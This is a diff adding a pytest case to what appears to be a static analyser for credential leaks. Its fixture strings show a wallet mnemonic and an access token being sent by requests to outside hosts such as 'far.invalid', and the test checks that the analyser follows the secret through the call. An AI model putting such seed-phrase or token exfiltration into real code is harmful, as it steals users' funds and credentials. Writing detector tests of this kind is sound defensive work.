@@ -74,6 +74,15 @@ def test_any_body_is_looked_through(body: str) -> None:
     assert credentials(f"def f(x):\n x = {body}\n requests.post('https://own.invalid', data=x)") == []
 
 
+@pytest.mark.parametrize("given", ["mnemonic[::-1]", "mnemonic[2:]", "mnemonic"])
+def test_a_part_of_it_is_followed_through_a_call_by_name(given: str) -> None:
+    source = (
+        "import requests\ndef tell(ref=''):\n  requests.get('https://far.invalid/p', params={'r': ref})\n"
+        f"def make(mnemonic):\n  tell(ref={given})\n"
+    )
+    assert ["mnemonic"] == [use.argument for use in facts(source).uses if use.api == "credential-parameter"]
+
+
 def test_a_client_of_a_store_of_texts_sends_it_its_token() -> None:
     source = (
         "class A:\n def f(self):\n  requests.post('https://api.telegra.ph/x', data={'t': self.access_token})"
